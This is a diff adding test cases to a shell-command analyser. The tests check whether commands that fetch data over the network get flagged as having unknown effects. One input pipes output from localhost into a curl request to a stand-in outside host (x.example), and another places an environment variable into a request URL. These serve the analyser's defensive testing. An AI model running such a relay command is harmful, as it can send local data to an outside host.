@@ -88,3 +88,12 @@ describe('places that carry something', () => {
     expect(sent(commandLine)).toEqual(expected)
   })
 })
+
+test.each<[string, string, boolean]>([
+  ['asked of the same machine', 'curl -s localhost:80/a | xargs -I{} curl -s localhost:80/{}', false],
+  ['asked of another one', 'curl -s localhost:80/a | xargs -I{} curl -s https://x.example/{}', true],
+  ['a variable of the environment', 'curl -s "localhost:80/$NAME"', true],
+])('what came over the network, %s', (_name, commandLine, isUnknown) => {
+  const { effects } = analyseShell(commandLine, { world: fakeWorld(machine), cwd: '/w' })
+  expect(effects.some(({ kind }) => kind === 'unknown')).toBe(isUnknown)
+})
